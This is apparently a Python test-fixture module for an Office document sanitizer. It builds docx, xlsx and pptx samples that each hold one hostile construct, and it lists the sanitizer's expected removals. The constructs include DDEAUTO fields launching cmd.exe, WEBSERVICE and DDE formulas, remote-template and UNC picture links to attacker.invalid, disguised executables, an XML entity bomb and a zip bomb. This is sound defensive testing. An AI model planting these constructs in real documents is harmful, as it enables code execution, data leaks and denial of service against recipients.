"""Office samples, written part by part, so that each holds exactly one construct."""

import io
import zipfile
from collections.abc import Callable

from PIL import Image

from kencho.files.sanitize import Kind, Reason, Removed
from kencho.files.tests.sanitize.samples._sample import Sample, clean, refused

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships/"
TYPE = "application/vnd.openxmlformats-officedocument."
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
WORD_MAIN = TYPE + "wordprocessingml.document.main+xml"
SHEET_MAIN = TYPE + "spreadsheetml.sheet.main+xml"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
ADDRESS = "http://attacker.invalid/x"


def png() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), "navy").save(buffer, "PNG")
    return buffer.getvalue()


def relation(number: int, kind: str, target: str, *, external: bool = False, base: str = OFFICE) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="rId{number}" Type="{base}{kind}" Target="{target}"{mode}/>'


def relations(*lines: str) -> str:
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<?xml version="1.0"?><Relationships xmlns="{space}">{"".join(lines)}</Relationships>'


def package(
    main: str, main_type: str, parts: dict[str, str | bytes], types: dict[str, str] | None = None
) -> bytes:
    """A package with the given parts; `types` adds media types by part name or `.extension`."""
    lines = [
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>',
        '<Default Extension="xml" ContentType="application/xml"/>',
        '<Default Extension="png" ContentType="image/png"/>',
        '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
        f'<Override PartName="/{main}" ContentType="{main_type}"/>',
    ]
    lines += [f'<Override PartName="/{name}" ContentType="{kind}"/>' for name, kind in (types or {}).items()]
    space = "http://schemas.openxmlformats.org/package/2006/content-types"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml", f'<?xml version="1.0"?><Types xmlns="{space}">{"".join(lines)}</Types>'
        )
        archive.writestr("_rels/.rels", relations(relation(1, "officeDocument", main)))
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def word(
    body: str,
    *rels: str,
    parts: dict[str, str | bytes] | None = None,
    types: dict[str, str] | None = None,
    main_type: str = WORD_MAIN,
) -> bytes:
    """A docx with the given body."""
    spaces = (
        f'xmlns:w="{W}" xmlns:r="{R}" xmlns:v="urn:schemas-microsoft-com:vml" '
        'xmlns:o="urn:schemas-microsoft-com:office:office" '
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
    )
    text = (
        f"<w:document {spaces}><w:body><w:p><w:r><w:t>津市役所</w:t></w:r></w:p>{body}</w:body></w:document>"
    )
    content: dict[str, str | bytes] = {
        "word/document.xml": text,
        "word/_rels/document.xml.rels": relations(*rels),
    }
    return package("word/document.xml", main_type, content | (parts or {}), types)


def macro() -> bytes:
    return word(
        "",
        relation(1, "vbaProject", "vbaProject.bin", base=MICROSOFT),
        parts={"word/vbaProject.bin": OLE},
        types={"word/vbaProject.bin": "application/vnd.ms-office.vbaProject"},
        main_type="application/vnd.ms-word.document.macroEnabled.main+xml",
    )


def field(*instructions: str, result: str = "result") -> str:
    middle = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in instructions)
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{middle}'
        f'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{result}</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def exchange() -> bytes:
    return word(field(r' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" '))


def split_exchange() -> bytes:
    """The word is cut in pieces over runs."""
    return word(
        field("D", "DEA", 'UTO cmd "/k calc"')
        + '<w:p><w:fldSimple w:instr=" DDE a b "><w:r/></w:fldSimple></w:p>'
    )


def built_exchange() -> bytes:
    """The word is computed by an inner QUOTE field."""
    begin, end = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>',
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>',
    )
    inner = f"{begin}<w:r><w:instrText> QUOTE 68 68 69 </w:instrText></w:r>{end}"
    return word(f"<w:p>{begin}<w:r><w:instrText>QUOTE </w:instrText></w:r>{inner}{end}</w:p>")


def include_picture() -> bytes:
    return word(field(r' INCLUDEPICTURE "\\\\attacker.invalid\\a.png" \d '))


def template() -> bytes:
    settings = f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/><w:zoom w:percent="90"/></w:settings>'
    return word(
        "",
        relation(1, "settings", "settings.xml"),
        parts={
            "word/settings.xml": settings,
            "word/_rels/settings.xml.rels": relations(
                relation(1, "attachedTemplate", ADDRESS + ".dotm", external=True)
            ),
        },
        types={"word/settings.xml": TYPE + "wordprocessingml.settings+xml"},
    )


def ole_object() -> bytes:
    body = (
        '<w:p><w:r><w:object><v:shape><v:imagedata r:id="rId2" o:title=""/></v:shape>'
        '<o:OLEObject Type="Embed" ProgID="Package" r:id="rId1"/></w:object></w:r></w:p>'
    )
    rels = [relation(1, "oleObject", "embeddings/o.bin"), relation(2, "image", "media/i.png")]
    return word(body, *rels, parts={"word/embeddings/o.bin": OLE, "word/media/i.png": png()})


def active_control() -> bytes:
    control = '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{1}"/>'
    return word(
        '<w:p><w:r><w:object><w:control r:id="rId1" w:name="C"/></w:object></w:r></w:p>',
        relation(1, "control", "activeX/c.xml"),
        parts={"word/activeX/c.xml": control},
        types={"word/activeX/c.xml": "application/vnd.ms-office.activeX+xml"},
    )


def outside_picture() -> bytes:
    body = '<w:p><w:r><w:pict><v:shape href="http://attacker.invalid"><v:imagedata r:id="rId1" r:href="rId1"/></v:shape></w:pict></w:r></w:p>'
    return word(body, relation(1, "image", "file://///attacker.invalid/a.png", external=True))


def foreign_chunk() -> bytes:
    return word(
        '<w:altChunk r:id="rId1"/>',
        relation(1, "aFChunk", "chunk.html"),
        parts={"word/chunk.html": "<script>1</script>"},
        types={"word/chunk.html": "text/html"},
    )


def hyperlink() -> bytes:
    body = '<w:p><w:hyperlink r:id="rId1"><w:r><w:t>押す</w:t></w:r></w:hyperlink></w:p>'
    return word(body + field(f' HYPERLINK "{ADDRESS}" '), relation(1, "hyperlink", ADDRESS, external=True))


def disguised_picture() -> bytes:
    """A program that the package calls a picture, and a picture with a passenger behind its end."""
    body = '<w:p><w:r><w:pict><v:imagedata r:id="rId1"/><v:imagedata r:id="rId2"/></w:pict></w:r></w:p>'
    rels = [relation(1, "image", "media/a.png"), relation(2, "image", "media/b.png")]
    return word(
        body,
        *rels,
        parts={"word/media/a.png": b"MZ" + b"\0" * 99, "word/media/b.png": png() + b"PK\x03\x04passenger"},
    )


def disguised_part() -> bytes:
    """A macro project under an allowed relation and an allowed name."""
    return word(
        "",
        relation(1, "styles", "styles.xml"),
        parts={"word/styles.xml": OLE},
        types={"word/styles.xml": "application/vnd.ms-office.vbaProject"},
    )


def custom_ui() -> bytes:
    data = word("")
    buffer = io.BytesIO(data)
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("customUI/customUI.xml", '<customUI onLoad="x"/>')
        archive.writestr("stray.vbs", "WScript.Echo 1")
    return buffer.getvalue()


def entity_bomb() -> bytes:
    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    text = f'<?xml version="1.0"?><!DOCTYPE w [{entities}]><w:document xmlns:w="{W}"><w:body>&a9;</w:body></w:document>'
    return package("word/document.xml", WORD_MAIN, {"word/document.xml": text})


def wide_entity_bomb() -> bytes:
    text = f'<!DOCTYPE w [<!ENTITY a "x">]><w:document xmlns:w="{W}"><w:body>&a;</w:body></w:document>'
    return package("word/document.xml", WORD_MAIN, {"word/document.xml": text.encode("utf-16")})


def zip_bomb() -> bytes:
    return word("", parts={"word/media/bomb.xml": b"\0" * (300 * 1024 * 1024)})


def many_entries() -> bytes:
    return word("", parts={f"x/{number}.xml": "" for number in range(5_000)})


def workbook(
    sheet: str,
    *rels: str,
    book: str = "",
    parts: dict[str, str | bytes] | None = None,
    types: dict[str, str] | None = None,
) -> bytes:
    """An xlsx with one sheet."""
    content: dict[str, str | bytes] = {
        "xl/workbook.xml": f'<workbook xmlns="{S}" xmlns:r="{R}"><sheets><sheet name="表" sheetId="1" r:id="rId1"/></sheets>{book}</workbook>',
        "xl/_rels/workbook.xml.rels": relations(relation(1, "worksheet", "worksheets/sheet1.xml"), *rels),
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{S}" xmlns:r="{R}"><sheetData><row r="1">{sheet}</row></sheetData></worksheet>',
    }
    kinds = {"xl/worksheets/sheet1.xml": TYPE + "spreadsheetml.worksheet+xml"} | (types or {})
    return package("xl/workbook.xml", SHEET_MAIN, content | (parts or {}), kinds)


def cell(formula: str, place: str = "A1") -> str:
    return f'<c r="{place}"><f>{formula}</f><v>7</v></c>'


def external_book() -> bytes:
    link = f'<externalLink xmlns="{S}" xmlns:r="{R}"><externalBook r:id="rId1"/></externalLink>'
    return workbook(
        cell("[1]Sheet1!A1") + cell("SUM(1,2)", "B1"),
        relation(2, "externalLink", "externalLinks/e.xml"),
        book='<externalReferences><externalReference r:id="rId2"/></externalReferences>',
        parts={
            "xl/externalLinks/e.xml": link,
            "xl/externalLinks/_rels/e.xml.rels": relations(
                relation(1, "externalLinkPath", ADDRESS, external=True)
            ),
        },
        types={"xl/externalLinks/e.xml": TYPE + "spreadsheetml.externalLink+xml"},
    )


def live_formulas() -> bytes:
    cells = [
        cell("cmd|' /C calc'!A0"),
        cell(f"WEBSERVICE(&quot;{ADDRESS}&quot;)", "B1"),
        cell("_xlfn.WEBSERVICE ( A1)", "C1"),
        cell("HYPERLINK(&quot;http://attacker.invalid&quot;,&quot;x&quot;)", "D1"),
    ]
    names = '<definedNames><definedName name="_xlnm.Auto_Open">表!$A$1</definedName><definedName name="ok">表!$A$1</definedName></definedNames>'
    return workbook("".join(cells), book=names)


def macro_sheet() -> bytes:
    text = f'<xm:macrosheet xmlns="{S}" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'
    return workbook(
        "<c r='A1'><v>1</v></c>",
        relation(2, "xlMacrosheet", "macrosheets/m.xml", base=MICROSOFT),
        parts={"xl/macrosheets/m.xml": text},
        types={"xl/macrosheets/m.xml": "application/vnd.ms-excel.macrosheet+xml"},
    )


def connections() -> bytes:
    text = f'<connections xmlns="{S}"><connection id="1" type="5"><dbPr connection="Provider=Microsoft.Mashup"/></connection></connections>'
    return workbook(
        "<c r='A1'><v>1</v></c>",
        relation(2, "connections", "connections.xml"),
        relation(3, "customXml", "../customXml/item1.xml"),
        parts={"xl/connections.xml": text, "customXml/item1.xml": "<DataMashup>AAAA</DataMashup>"},
        types={"xl/connections.xml": TYPE + "spreadsheetml.connections+xml"},
    )


def slides() -> bytes:
    p = "http://schemas.openxmlformats.org/presentationml/2006/main"
    a = "http://schemas.openxmlformats.org/drawingml/2006/main"
    shape = (
        '<p:sp><p:nvSpPr><p:cNvPr id="2" name="x"><a:hlinkClick r:id="rId1" action="ppaction://program"/></p:cNvPr>'
        "</p:nvSpPr><p:txBody><a:p><a:r><a:rPr><a:hlinkMouseOver r:id='' action='ppaction://macro?name=m'/></a:rPr>"
        "<a:t>県</a:t></a:r></a:p></p:txBody></p:sp>"
    )
    space = f'xmlns:p="{p}" xmlns:a="{a}" xmlns:r="{R}"'
    return package(
        "ppt/presentation.xml",
        "application/vnd.ms-powerpoint.slideshow.macroEnabled.main+xml",
        {
            "ppt/presentation.xml": f'<p:presentation {space}><p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst></p:presentation>',
            "ppt/_rels/presentation.xml.rels": relations(relation(1, "slide", "slides/s.xml")),
            "ppt/slides/s.xml": f"<p:sld {space}><p:cSld><p:spTree>{shape}</p:spTree></p:cSld><p:timing><p:tnLst/></p:timing></p:sld>",
            "ppt/slides/_rels/s.xml.rels": relations(
                relation(1, "hyperlink", "file:///c:/windows/calc.exe", external=True)
            ),
        },
        {"ppt/slides/s.xml": TYPE + "presentationml.slide+xml"},
    )


def encrypted_package() -> bytes:
    return OLE + "EncryptedPackage".encode("utf-16-le") + b"\0" * 512


def office_samples() -> list[Sample]:
    """Every Office sample."""
    words: list[tuple[str, Callable[[], bytes], list[Removed]]] = [
        ("macro", macro, [Removed.MACRO]),
        ("exchange", exchange, [Removed.FIELD]),
        ("split_exchange", split_exchange, [Removed.FIELD]),
        ("built_exchange", built_exchange, [Removed.FIELD]),
        ("include_picture", include_picture, [Removed.FIELD]),
        ("template", template, [Removed.TEMPLATE_LINK, Removed.EXTERNAL_TARGET]),
        ("ole_object", ole_object, [Removed.OLE_OBJECT]),
        ("active_control", active_control, [Removed.ACTIVE_CONTROL]),
        ("outside_picture", outside_picture, [Removed.EXTERNAL_TARGET]),
        ("foreign_chunk", foreign_chunk, [Removed.FOREIGN_CHUNK]),
        ("hyperlink", hyperlink, [Removed.LINK, Removed.FIELD]),
        ("disguised_picture", disguised_picture, [Removed.PICTURE]),
        ("disguised_part", disguised_part, [Removed.UNKNOWN_PART]),
        ("custom_ui", custom_ui, []),
    ]
    sheets: list[tuple[str, Callable[[], bytes], list[Removed]]] = [
        ("external_book", external_book, [Removed.DATA_CONNECTION, Removed.FORMULA]),
        ("live_formulas", live_formulas, [Removed.FORMULA]),
        ("macro_sheet", macro_sheet, [Removed.MACRO]),
        ("connections", connections, [Removed.DATA_CONNECTION, Removed.CUSTOM_DATA]),
    ]
    return [
        *(clean(f"docx_{name}", Kind.DOCX, build, *codes) for name, build, codes in words),
        *(clean(f"xlsx_{name}", Kind.XLSX, build, *codes) for name, build, codes in sheets),
        clean("pptx_actions", Kind.PPTX, slides, Removed.MACRO, Removed.LINK, Removed.ANIMATION),
        refused("docx_entity_bomb", Reason.DOCTYPE, entity_bomb),
        refused("docx_wide_entity_bomb", Reason.DOCTYPE, wide_entity_bomb),
        refused("docx_zip_bomb", Reason.BOMB, zip_bomb),
        refused("docx_many_entries", Reason.BOMB, many_entries),
        refused("docx_password", Reason.ENCRYPTED, encrypted_package),
        refused("xls_legacy", Reason.LEGACY_OFFICE, lambda: OLE + b"\0" * 512),
    ]
